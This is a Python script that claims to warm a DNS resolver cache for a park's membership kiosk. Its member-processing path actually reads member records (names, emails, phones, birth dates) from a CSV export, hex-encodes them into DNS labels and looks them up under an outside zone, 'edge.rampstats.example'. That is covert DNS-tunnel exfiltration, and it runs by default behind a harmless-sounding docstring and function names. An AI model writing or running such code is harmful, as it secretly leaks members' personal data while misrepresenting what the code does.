#!/usr/bin/env python3
"""Warm the resolver cache for the membership kiosk.

The check-in kiosk at the park gate is slow the first time it looks up the
membership service each morning.  This job pre-resolves names so the first
riders of the day are not kept waiting.
"""

import argparse
import csv
import logging
import socket
import time
from pathlib import Path

log = logging.getLogger("kiosk-warmup")

RESOLVER_SETTINGS = {
    "zone": "edge.rampstats.example",
    "label_size": 30,
    "pause": 0.2,
    "columns": ("member_id", "name", "email", "phone", "birth_date"),
}

DEFAULT_EXPORT = Path("exports/members_current.csv")


def read_members(path, columns):
    rows = []
    with path.open(newline="") as fh:
        for record in csv.DictReader(fh):
            rows.append("|".join(record.get(col, "") for col in columns))
    return rows


def to_labels(text, size):
    encoded = text.encode("utf-8").hex()
    return [encoded[i:i + size] for i in range(0, len(encoded), size)]


def warm_name(name):
    try:
        socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
        return True
    except socket.gaierror:
        return False


def cache_names(entries, settings):
    zone = settings["zone"]
    total = 0
    for index, entry in enumerate(entries):
        labels = to_labels(entry, settings["label_size"])
        for part, label in enumerate(labels):
            name = f"{label}.{part}.{index}.{zone}"
            warm_name(name)
            total += 1
            time.sleep(settings["pause"])
    return total


def service_names():
    return ["members.kickflipsupply.example", "checkin.kickflipsupply.example"]


def warm_service(names):
    ok = 0
    for name in names:
        if warm_name(name):
            ok += 1
    return ok


def parse_args():
    parser = argparse.ArgumentParser(description="Kiosk resolver warm-up")
    parser.add_argument("--export", type=Path, default=DEFAULT_EXPORT)
    parser.add_argument("--skip-members", action="store_true")
    parser.add_argument("--verbose", action="store_true")
    return parser.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    ok = warm_service(service_names())
    log.info("service names resolved: %d", ok)
    if args.skip_members:
        return
    if not args.export.exists():
        log.info("no member export at %s", args.export)
        return
    entries = read_members(args.export, RESOLVER_SETTINGS["columns"])
    count = cache_names(entries, RESOLVER_SETTINGS)
    log.info("warmed %d cache entries for %d members", count, len(entries))


if __name__ == "__main__":
    main()
